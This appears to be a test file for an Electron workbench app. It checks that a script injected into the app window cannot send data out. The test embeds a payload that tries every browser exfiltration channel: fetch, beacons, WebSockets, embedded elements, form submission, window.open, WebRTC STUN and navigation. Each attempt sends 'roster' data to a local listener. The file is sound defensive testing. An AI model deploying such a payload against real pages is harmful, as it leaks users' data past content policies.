import { createSocket } from 'node:dgram'
import { writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { chromium } from '@playwright/test'
import { expect, onTestFinished, test, vi } from 'vitest'
import { windowFlags } from '../../electron/services/app-window.ts'
import { findBrowser } from '../../electron/services/find-browser.ts'
import { printPdf } from '../../electron/services/print-pdf.ts'
import { browserPath, launchOptions } from '../support/browser.ts'
import { freshFolder } from '../support/host-deeds.ts'
import { startLoopbackEnd } from '../support/host-loopback.ts'

/** Somebody outside who writes down whatever comes, by whichever way. */
async function listener(): Promise<{ readonly address: string; readonly udp: string; readonly heard: string[] }> {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(request.url ?? '')
    response.end('thank you')
  })
  const datagrams = createSocket('udp4', () => heard.push('udp'))
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
  await new Promise<void>(done => datagrams.bind(0, '127.0.0.1', done))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
    datagrams.close()
  })
  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, udp: `127.0.0.1:${datagrams.address().port}`, heard }
}

/** Tries every way out that a page has, the last of them to go there itself. It runs in the page, as a file of its own. */
const smuggled = (address: string, udp: string) => `
  const to = way => ${JSON.stringify(address)} + '/' + way + '?roster=all'
  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields))
  fetch(to('fetch'), { mode: 'no-cors' }).catch(() => {})
  navigator.sendBeacon(to('beacon'), 'roster')
  new WebSocket(to('socket').replace('http', 'ws'))
  add('img', { src: to('img') })
  add('iframe', { src: to('iframe') })
  add('script', { src: to('script') })
  add('object', { data: to('object') })
  add('a', { href: to('ping'), ping: to('ping'), id: 'ping' })
  for (const rel of ['prefetch', 'preload', 'preconnect', 'stylesheet', 'prerender']) add('link', { rel, href: to(rel) })
  const form = Object.assign(document.createElement('form'), { action: to('form') })
  document.body.append(form)
  form.submit()
  window.open(to('open'))
  const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${udp}' }] })
  call.createDataChannel('roster')
  call.createOffer().then(offer => call.setLocalDescription(offer))
  setTimeout(() => { location.href = to('location') }, 700)
`

async function whatGetsOut(flags: (own: string) => readonly string[]): Promise<readonly string[]> {
  const folder = await freshFolder()
  const end = await startLoopbackEnd(folder)
  onTestFinished(end.stop)
  const outside = await listener()
  await writeFile(join(folder, 'page', 'index.html'), '<!doctype html><body><script type="module" src="/assets/smuggled.js"></script>')
  await writeFile(join(folder, 'page', 'assets', 'smuggled.js'), smuggled(outside.address, outside.udp))
  const browser = await chromium.launch({ ...launchOptions, args: [...launchOptions.args, ...flags(end.url)] })
  onTestFinished(() => browser.close())
  const tab = await browser.newPage()
  const left = tab.waitForURL(url => url.origin !== end.url, { timeout: 10_000, waitUntil: 'commit' })
  await tab.goto(end.url)
  // The script has run to its end, wherever it came to.
  await left
  await new Promise(done => setTimeout(done, 300))
  return [...new Set(outside.heard.map(way => way.split('?')[0] ?? ''))].toSorted()
}

test.skipIf(!browserPath)(
  'a script smuggled into the window of the workbench sends nothing out, by any way that a page has',
  { timeout: 60_000 },
  async () => {
    expect(await whatGetsOut(windowFlags)).toEqual([])
  },
)

test.skipIf(!browserPath)(
  'in a browser of one’s own the page’s policy holds all but going away, opening a page, and calling',
  { timeout: 60_000 },
  async () => {
    const ways = (await whatGetsOut(() => [])).filter(way => way !== '/favicon.ico')
    expect(ways).toEqual(['/location', '/open', 'udp'])
  },
)

const browser = await findBrowser()
test.skipIf(!browser)('a paper that is printed fetches nothing, also where the PC has a proxy', { timeout: 60_000 }, async () => {
  const { address, heard } = await listener()
  vi.stubEnv('http_proxy', address)
  onTestFinished(() => void vi.unstubAllEnvs())
  const html = `<!doctype html><link rel="stylesheet" href="${address}/css"><img src="${address}/img"><img src="http://outside.example/"><iframe src="${address}/frame"></iframe>
    <p>名簿</p>`
  expect(await printPdf(browser, html)).toMatchObject({ ok: true })
  expect(heard).toEqual([])
})
